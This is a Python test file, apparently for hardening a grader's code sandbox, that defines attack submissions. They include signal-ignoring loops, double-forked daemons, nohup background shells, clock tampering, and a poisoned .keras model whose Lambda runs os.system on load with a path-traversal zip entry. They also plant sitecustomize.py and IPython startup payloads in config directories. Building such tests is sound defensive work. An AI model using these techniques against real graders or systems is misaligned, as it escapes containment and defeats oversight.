"""Attacks that last: swallowed interrupts, ignored signals, daemons, changed clocks, last words."""

from tests.attacks.attack import Attack

BRIEF = {"seconds": 4.0}

ATTACKS = [
    Attack(
        "swallowed_interrupts",
        "Catches whatever is raised into it and goes on for ever.",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        BRIEF,
    ),
    Attack(
        "deaf",
        "Ignores and blocks every signal that can be, stops the timers, and sleeps.",
        """
import signal, time
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
signal.setitimer(signal.ITIMER_REAL, 0); signal.signal = signal.setitimer = lambda *a: None
while True:
    time.sleep(1)
""",
        BRIEF,
    ),
    Attack(
        "deaf_in_c",
        "Waits within C with the lock held, where no Python handler is ever run.",
        "import ctypes\nctypes.PyDLL(None).sleep(1000)",
        BRIEF,
    ),
    Attack(
        "daemon",
        "A daemon, forked twice, in a session of its own, deaf, which waits to write after the end.",
        """
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (1, 2, 15): signal.signal(number, signal.SIG_IGN)
        for _ in range(100):
            time.sleep(0.1)
            try: open('/tmp/outlived', 'w').close(); open('outlived', 'w').close()
            except OSError: pass
    os._exit(0)
""",
    ),
    Attack(
        "shell_in_the_background",
        "Starts commands in the background that go on when the cell is over.",
        """
import subprocess
subprocess.Popen('trap "" TERM INT HUP; while :; do touch /tmp/outlived; sleep 0.1; done', shell=True,
                 start_new_session=True)
get_ipython().system('nohup sleep 1000 > /dev/null 2>&1 &')
""",
    ),
    Attack(
        "changed_clock",
        "Sets the clock, and replaces every clock that Python has by one that stands still.",
        """
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
print(libc.settimeofday(ctypes.create_string_buffer(16), None), libc.clock_settime(0, ctypes.create_string_buffer(16)))
print(libc.unshare(0x80))
import grader.sandbox.inside.runner as runner
time.time = time.monotonic = time.perf_counter = time.process_time = runner.time.monotonic = lambda: 0.0
time.sleep(1000)
""",
        BRIEF,
    ),
    Attack(
        "last_words",
        "atexit, __del__, finalizers and threads that speak and loop when the interpreter ends.",
        """
import atexit, sys, threading, weakref
def words(*a):
    while True:
        try: open('/tmp/words', 'w')
        except BaseException: pass
atexit.register(words); threading._register_atexit(words)
class Last:
    __del__ = words
sys.last = Last(); weakref.finalize(sys.last, words)
threading.Thread(target=words).start()
""",
        BRIEF,
    ),
    Attack(
        "slow_destructor",
        "An answer whose __del__, __len__ and __iter__ never come to an end.",
        """
class Slow(list):
    def __len__(self):
        while True: pass
    __del__ = __iter__ = __bool__ = __len__
def total(x): return Slow()
""",
        BRIEF,
    ),
    Attack(
        "poisoned_keras_file",
        "Leaves a .keras file whose Lambda runs code when it is loaded, and answers with its path and its bytes.",
        """
import base64, json, marshal, zipfile
code = marshal.dumps(compile("__import__('os').system('touch /tmp/poisoned')", 'x', 'exec'))
layer = {'class_name': 'Lambda', 'config': {'function': {'class_name': '__lambda__', 'config': {
    'code': base64.b64encode(code).decode()}}}, 'module': 'keras.layers'}
with zipfile.ZipFile('total.keras', 'w') as file:
    file.writestr('config.json', json.dumps({'class_name': 'Sequential', 'config': {'layers': [layer]}}))
    file.writestr('../../../../tmp/poisoned', 'x'); file.writestr('model.weights.h5', b'')
def total(x): return {'model': 'total.keras', 'bytes': open('total.keras', 'rb').read().hex()}
""",
    ),
    Attack(
        "poisoned_settings",
        "Leaves settings for Keras, IPython, matplotlib and pip where the next submission would read them.",
        """
import os, pathlib
for place in (os.environ['KERAS_HOME'], os.path.expanduser('~/.ipython/profile_default/startup'), '/tmp/.ipython',
              os.path.expanduser('~/.config/matplotlib'), os.environ['HOME'] + '/..', '/tmp/.keras', '/root/.keras'):
    for name in ('keras.json', '00.py', 'matplotlibrc', 'pip.conf', 'sitecustomize.py'):
        try:
            path = pathlib.Path(place) / name; path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text('import os; os.system("touch /tmp/poisoned")')
        except OSError: pass
""",
    ),
    Attack(
        "slow_to_the_end",
        "Takes just under its time in each of many cells, and then does not answer.",
        "import time\ntime.sleep(1.5)\n# %%\ntime.sleep(1.5)\n# %%\ntime.sleep(1.5)\ndef total(x): time.sleep(100)",
        BRIEF,
    ),
]
